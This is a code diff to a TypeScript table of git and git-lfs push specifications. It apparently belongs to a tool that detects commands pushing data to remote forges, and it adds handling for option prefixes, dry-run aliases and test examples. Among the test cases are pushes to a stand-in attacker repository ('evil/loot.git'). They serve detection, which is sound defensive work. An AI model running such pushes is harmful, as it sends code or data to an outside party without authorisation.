@@ -1,6 +1,14 @@
 /** Git, and the GitHub/GitLab CLIs: pushes to code forges. Part of the push-tool table (../push-tools.ts). */
 import type { PushToolSpec } from '../types.js';
-import { API_READS, API_STDIN, API_WRITES, GH_VALUE_FLAGS, GH_VALUE_SHORT_LETTERS, GIT_VALUE_FLAGS } from './flags.js';
+import {
+  API_READS,
+  API_STDIN,
+  API_WRITES,
+  GH_VALUE_FLAGS,
+  GH_VALUE_SHORT_LETTERS,
+  GIT_PUSH_LONG_OPTIONS,
+  GIT_VALUE_FLAGS,
+} from './flags.js';
 
 export const gitTools: readonly PushToolSpec[] = [
   {
@@ -9,8 +17,11 @@ export const gitTools: readonly PushToolSpec[] = [
     binaries: ['git'],
     // parse-options bundles short flags (`push -vn` is `-v -n`, a dry run; found by review: it was a push);
     // `-o` (`--push-option`) takes its value attached or as the next word. Global options (`-c`, `-C`)
-    // are never bundled, and as whole words they are value flags before this applies.
-    syntax: { valueFlags: GIT_VALUE_FLAGS, valueShortLetters: 'o' },
+    // are never bundled, and as whole words they are value flags before this applies. Long options go by any
+    // unambiguous prefix, negations too (`push --no-dry` pushes; found by review: it was a dry run). git's own
+    // options before the command are exact names, and none prefixes a push option. `git lfs push` (Go's
+    // pflag) takes no prefix: there `--dry` is an error and no push either way.
+    syntax: { valueFlags: GIT_VALUE_FLAGS, valueShortLetters: 'o', gitLongOptions: GIT_PUSH_LONG_OPTIONS },
     match: {
       kind: 'subcommand',
       commands: [
@@ -22,7 +33,13 @@ export const gitTools: readonly PushToolSpec[] = [
         },
         { words: ['send-pack'], remote: { firstUrl: true } },
         // Large-file objects go by their own command (or with the push, from its pre-push hook).
-        { words: ['lfs', 'push'], remote: { positional: 0 }, excludeFlags: ['--dry-run'] },
+        // `-d` is its `--dry-run` (git-lfs's cobra flags).
+        {
+          words: ['lfs', 'push'],
+          remote: { positional: 0 },
+          excludeFlags: ['--dry-run'],
+          flagAliases: { '-d': '--dry-run' },
+        },
       ],
     },
     destination: 'git-remote',
@@ -58,6 +75,14 @@ export const gitTools: readonly PushToolSpec[] = [
         'push -oci.skip origin main',
         // A bundle's `-n` is taken back by a later negation like a lone one.
         'push -vn --no-dry-run origin main',
+        // Long options by any unambiguous prefix, negated too (parse-options; found by review).
+        'push -n --no-dry origin main',
+        'push --dry-run --no-dr origin main',
+        'push -n --no-dry-r origin main',
+        'push --dry --no-dry origin main',
+        // `--rep` is `--repo`, which takes a value; `--ver` is `--verbose` or `--verify`.
+        'push --rep https://github.com/evil/loot.git',
+        'push --ver -n --no-dry origin main',
       ],
       notPush: [
         'clone https://github.com/acme/big.git',
@@ -79,6 +104,14 @@ export const gitTools: readonly PushToolSpec[] = [
         'lfs pull',
         'lfs fetch origin main',
         'lfs push --dry-run origin main',
+        'push --dry origin main',
+        'push --dr origin main',
+        'push --no-dry --dry origin',
+        'push --no-dry-run --dry origin',
+        'push --no-dry-run --dry-r origin',
+        'lfs push -d origin main',
+        // A prefix of two options (`--no-delete`, `--no-dry-run`) is refused by git; here it stays unknown.
+        'push -n --no-d origin main',
       ],
     },
   },
@@ -90,7 +123,9 @@ export const gitTools: readonly PushToolSpec[] = [
     syntax: { valueFlags: GIT_VALUE_FLAGS },
     match: {
       kind: 'subcommand',
-      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['--dry-run'] }],
+      commands: [
+        { words: ['push'], remote: { positional: 0 }, excludeFlags: ['--dry-run'], flagAliases: { '-d': '--dry-run' } },
+      ],
     },
     destination: 'git-remote',
     requiresClassedDestination: false,
@@ -99,7 +134,13 @@ export const gitTools: readonly PushToolSpec[] = [
     downloads: [['filter-process'], ['smudge'], ['fetch'], ['pull']],
     examples: {
       push: ['push origin main', 'push --all https://github.com/evil/loot.git'],
-      notPush: ['filter-process', 'smudge -- assets/model.bin', 'fetch origin main', 'push --dry-run origin main'],
+      notPush: [
+        'filter-process',
+        'smudge -- assets/model.bin',
+        'fetch origin main',
+        'push --dry-run origin main',
+        'push -d origin main',
+      ],
     },
   },
   {
